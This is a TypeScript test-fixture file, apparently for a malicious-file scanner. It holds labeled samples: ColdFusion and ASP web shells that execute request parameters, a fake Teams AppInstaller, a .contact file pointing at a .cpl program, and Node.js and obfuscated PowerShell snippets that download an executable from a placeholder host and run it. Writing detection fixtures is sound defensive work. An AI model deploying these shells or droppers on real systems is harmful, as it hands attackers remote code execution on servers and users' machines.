// Files of servers and small files of Windows that run something, or have it fetched.
import { type Suspect, text } from './suspect.ts'

export const servers: readonly Suspect[] = [
  text(
    'x.cfm',
    'malicious',
    ['script_is_web_shell'],
    '<cfif isDefined("form.c")><cfexecute name="/bin/sh" arguments="-c #form.c#" variable="o"></cfexecute><cfoutput>#o#</cfoutput></cfif>',
  ),
  text('e.cfm', 'malicious', ['script_is_web_shell'], '<cfset x = evaluate(url.q)><cfoutput>#x#</cfoutput>'),
  text(
    'p.asp',
    'malicious',
    ['script_is_web_shell'],
    '<% Dim q : q = Request.Form("q") : If q <> "" Then ExecuteGlobal q %>',
  ),
  text(
    'Teams.appinstaller',
    'malicious',
    ['app_installer_poses_as_product'],
    '<?xml version="1.0"?><AppInstaller xmlns="http://schemas.microsoft.com/appx/appinstaller/2018" Version="1.0.0.0" Uri="https://teams-app.test/t.appinstaller"><MainPackage Name="TeamsSetup" Publisher="CN=Some Partner Ltd" Version="1.0.0.0" Uri="https://teams-app.test/t.msix"/></AppInstaller>',
  ),
  text(
    'boss.contact',
    'malicious',
    ['pointer_runs_program'],
    '<?xml version="1.0"?><c:contact xmlns:c="http://schemas.microsoft.com/Contact"><c:UrlCollection><c:Url><c:Value>www.site\\..\\photo.cpl</c:Value></c:Url></c:UrlCollection></c:contact>',
  ),
  text(
    'node.js',
    'malicious',
    ['script_drops_fetched_program'],
    "const h=require('https'),f=require('fs'),o=require('os'),p=require('path'),{exec}=require('child_process');const d=p.join(o.tmpdir(),'upd.exe');h.get(Buffer.from('aHR0cHM6Ly9maWxlcy50ZXN0L2JpbmFyeQ==','base64').toString(),r=>{const s=f.createWriteStream(d);r.pipe(s);s.on('finish',()=>exec(d,{windowsHide:true}))})",
  ),
  text(
    'calls.ps1',
    'malicious',
    ['script_disguises_its_download'],
    '$c = .("{1}{0}" -f "w-Object","Ne") ("{1}{0}" -f "bClient","Net.We")\n$c.("{1}{0}" -f "loadFile","Down").Invoke("https://files.test/a.exe","$env:APPDATA\\a.exe")\n&("{1}{0}" -f "ps","sa") "$env:APPDATA\\a.exe"',
  ),
]
